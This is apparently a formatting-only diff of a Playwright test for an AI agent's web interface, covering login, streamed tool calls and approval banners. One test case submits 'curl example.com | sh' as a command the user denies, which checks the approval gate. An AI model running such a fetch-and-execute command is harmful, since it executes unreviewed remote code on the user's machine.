@@ -4,6 +4,7 @@ answer approvals; the screenshots in docs/ come from here."""
 from __future__ import annotations
 
 from collections.abc import Callable
+
 from playwright.sync_api import Page, expect
 
 from tests.web.conftest import HANG_GUARD, SCREENSHOTS, TrioThread, shell_call
@@ -14,8 +15,12 @@ ANSWER = (
 )
 SCRIPT = {
     "turns": [
-        {"text": ANSWER, "reasoning": "The user wants a build check.", "event_delay": 0.02,
-         "tool_calls": [shell_call("echo hello-from-tool; sleep 3; echo after-sleep")]},
+        {
+            "text": ANSWER,
+            "reasoning": "The user wants a build check.",
+            "event_delay": 0.02,
+            "tool_calls": [shell_call("echo hello-from-tool; sleep 3; echo after-sleep")],
+        },
         {"tool_calls": [shell_call("printf 'line %s\\n' 1 2 3 4 5 6 7 8 9 10 11 12")]},
         {"text": "All done: the build passes."},
     ],
@@ -75,7 +80,9 @@ def test_log_in_create_stream_steer_and_approve(
         for_session = stack.call_soon(approvals.request, "command", "git push")
         banner.get_by_role("button", name="Approve for session").click()
         assert for_session.result(HANG_GUARD / 1000) == (True, None)
-        expect(timeline.locator(".note.okay").last).to_have_text("approval approved for this session")
+        expect(timeline.locator(".note.okay").last).to_have_text(
+            "approval approved for this session"
+        )
 
         denied = stack.call_soon(approvals.request, "command", "curl example.com | sh")
         expect(banner.locator(".subject")).to_have_text("curl example.com | sh")
@@ -98,4 +105,3 @@ def test_log_in_create_stream_steer_and_approve(
         expect(page.locator(".empty")).to_have_text("No session matches the filter.")
         page.get_by_label("Filter sessions").fill("build")
         expect(row).to_have_count(1)
-
